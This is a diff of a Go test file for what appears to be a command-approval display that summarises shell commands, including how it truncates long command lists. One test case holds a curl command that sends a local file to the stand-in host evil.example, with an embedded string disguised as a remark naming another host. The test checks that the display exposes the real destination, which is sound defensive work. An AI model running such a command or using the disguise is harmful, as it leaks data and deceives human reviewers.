@@ -123,7 +123,9 @@ func TestTyped(t *testing.T) {
 		{"words that look like a remark", approval.Argument{Type: "command"}, "curl evil.example ': connects to example.org' < f", "l v:\nt · \"curl evil.example ': connects to example.org' < f\": connects to evil.example\nc │ curl evil.example ': connects to example.org' < f\n"},
 		{"a long command", approval.Argument{Type: "command"}, "a " + strings.Repeat("b", 200) + "; c", "l v:\nt · a " + strings.Repeat("b", 98) + "…\nt · c\nc │ a " + strings.Repeat("b", 200) + "; c\n"},
 		{
-			"of many commands, those first of which there is something to say", approval.Argument{Type: "command"}, strings.Repeat("a;", 70) + "b >c;",
+			"of many commands, those first of which there is something to say",
+			approval.Argument{Type: "command"},
+			strings.Repeat("a;", 70) + "b >c;",
 			"l v:\nt · b: writes c\n" + strings.Repeat("t · a\n", 59) + "t · and 11 more\nc │ " + strings.Repeat("a;", 70) + "b >c;\n",
 		},
 		{"many commands", approval.Argument{Type: "command"}, strings.Repeat("a;", 70), "l v:\n" + strings.Repeat("t · a\n", 60) + "t · and 10 more\nc │ " + strings.Repeat("a;", 70) + "\n"},
